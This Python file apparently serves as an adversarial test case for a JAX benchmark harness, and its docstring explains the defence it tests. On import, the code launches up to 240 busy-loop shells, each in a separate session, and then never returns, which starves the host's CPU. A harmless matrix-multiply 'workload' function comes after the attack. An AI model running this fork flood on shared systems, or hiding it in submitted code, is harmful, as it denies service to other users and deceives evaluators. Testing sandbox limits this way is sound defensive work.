"""Attack (one build starves the host, issue 40 section 3): at import, start 240 busy shells, each in a session of
its own (with scheduler autogroups every session is one scheduling entity, so `nice` means nothing across them),
then never reply. Harness 14 let the build start all 240 (its process bound was 256) and bounded none of their CPU:
the host stayed at a load of 200-400 until the build's deadline, and the honest candidates built and inspected
meanwhile crawled. Now the build's pids cgroup refuses most of the forks, its CPU cgroup holds all of them to one
weight and one core, and every process in its cgroups is killed at its deadline."""

import subprocess
import time

import jax.numpy as jnp

MARKER = "jaxbench-session-flood"
print("FLOOD begins", flush=True)
started, refused = [], ""
for i in range(240):
    if i % 40 == 0:
        print(f"FLOOD started {i} busy sessions so far", flush=True)
    try:
        started.append(subprocess.Popen(["/bin/sh", "-c", "while :; do :; done", MARKER], start_new_session=True,
                                        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
    except OSError as e:  # the process bound
        refused = f"{type(e).__name__}: {e}"
        break
print(f"FLOOD started {len(started)} busy sessions; refused: {refused or 'none'}", flush=True)
while True:  # never reply: the build's deadline ends it
    time.sleep(3600)


def workload(A, B):
    return jnp.dot(A, B)
